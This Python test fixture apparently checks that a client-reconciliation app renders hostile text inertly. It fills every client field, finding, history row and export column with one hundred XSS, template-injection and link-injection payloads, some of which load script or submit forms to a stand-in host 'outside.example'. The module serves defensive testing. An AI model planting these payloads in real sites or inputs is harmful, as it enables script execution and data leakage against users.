"""Clients whose every text would be a script if any page took it for more than text."""

from __future__ import annotations

from dataclasses import replace

import pandas as pd
from desk_on_frames import AT, DeskOnFrames, invented_clients

from workbench.domain.frames import CHECKS, Clients, frame_of
from workbench.domain.progress import Tell, nobody
from workbench.domain.question import EVERYTHING, Question
from workbench.flow.exports import COLUMNS, ExportTold
from workbench.review.desk import Happened, Work

_RUN = "window.ran=(window.ran||0)+1"
_AWAY = "http://outside.example/?"
_BARE = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<a href='javascript:{_RUN}' autofocus tabindex=1>x</a>",
    f"<style>@import '{_AWAY}css'</style>",
    f"<link rel=stylesheet href='{_AWAY}link'>",
    f"<img src='{_AWAY}img'>",
    f"<script src='{_AWAY}src'></script>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}meta'>",
    f"<form action='{_AWAY}form'><button>go</button></form><script>document.forms[0].submit()</script>",
    f'<div style="background:url({_AWAY}style)">x</div>',
    f"javascript:{_RUN}",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
    f"[x](javascript:{_RUN}) ![y]({_AWAY}md)",
)
_BEFORE = ("", "\"'>", "</textarea></title></script></option></select>", "&lt;\u202e&#0;")
PAYLOADS = tuple(before + bare for before in _BEFORE for bare in _BARE)
"""One hundred texts: twenty-five scripts and calls to another host, each in four surroundings."""

_TEXTS = (
    *("legal_name", "trading_name", "partner", "manager", "groups", "email", "website", "primary_phone"),
    *("other_phone", "physical_lines", "physical_suburb", "physical_city", "physical_region"),
    *("physical_postcode", "physical_country", "client_reference", "structure", "custom_fields"),
)


def hostile_clients(count: int) -> Clients:
    """Give clients in whose every text field stands another payload, differing between the sides."""
    clients = invented_clients(count)
    sides = {}
    for turn, side in enumerate(("connectworks", "xpm")):
        frame = clients.side(side).copy()
        for place, column in enumerate(_TEXTS):
            numbers = (index + 7 * place + turn for index in range(count))
            frame[column] = pd.array(
                [PAYLOADS[n % len(PAYLOADS)] for n in numbers], dtype=frame[column].dtype
            )
        sides[side] = frame
    return replace(clients, connectworks=sides["connectworks"], xpm=sides["xpm"])


class HostileDesk(DeskOnFrames):
    """A desk that tells payloads wherever it tells anything: clients, people, findings, services' words."""

    def __init__(self, count: int = 110, linked: int = 100) -> None:
        super().__init__(count, linked)
        self.approval = True
        self._clients = hostile_clients(count)
        self.name, self.person, self.notice = PAYLOADS[0], PAYLOADS[1], PAYLOADS[2]
        self.works = [Work("r0", "pull", "running", 3, 40, 74.0, PAYLOADS[3], PAYLOADS[4])]
        self.me = "ben"
        self.custom_cost = (PAYLOADS[5], 3)
        columns = [{"header": text, "why": text, "sample": text} for text in PAYLOADS[:40]]
        self.exports = [ExportTold("xpm", PAYLOADS[6], frame_of(columns, COLUMNS), {"email": PAYLOADS[7]})]

    def differences(self) -> pd.DataFrame:
        """Give differences whose reasons and slips are payloads, too."""
        frame = super().differences()
        if "hostile" not in frame.attrs:
            for place, column in enumerate(("reason", "slip")):
                texts = [PAYLOADS[(n + place) % len(PAYLOADS)] for n in range(len(frame))]
                frame[column] = pd.array(texts, dtype=frame[column].dtype)
            frame.attrs["hostile"] = True
        return frame

    def checks(self, tell: Tell = nobody) -> pd.DataFrame:
        """Give a finding per payload."""
        rows = [
            {
                "check": "twins",
                "side": "xpm",
                "client_id": f"xp{n}",
                "name": text,
                "what": text,
                "advice": text,
            }
            for n, text in enumerate(PAYLOADS)
        ]
        return frame_of(rows, CHECKS)

    def look_back(self, question: Question = EVERYTHING, offset: int = 0, limit: int = 50) -> Happened:
        """Give a line of history per payload."""
        rows = [
            {
                "at": AT,
                "by": text,
                "what": text,
                "client": text,
                "field": "email",
                "before": text,
                "after": text,
            }
            for text in PAYLOADS
        ]
        columns = ("at", "by", "what", "client", "field", "before", "after", "outcome", "run_id")
        return Happened(frame_of(rows[offset : offset + limit], columns), len(rows), PAYLOADS)

    def timeline(self, link_id: str, field: str) -> pd.DataFrame:
        """Give a sighting per payload."""
        rows = [dict.fromkeys(("by", "what", "before", "after"), text) | {"at": AT} for text in PAYLOADS]
        return frame_of(rows, ("at", "by", "what", "before", "after"))
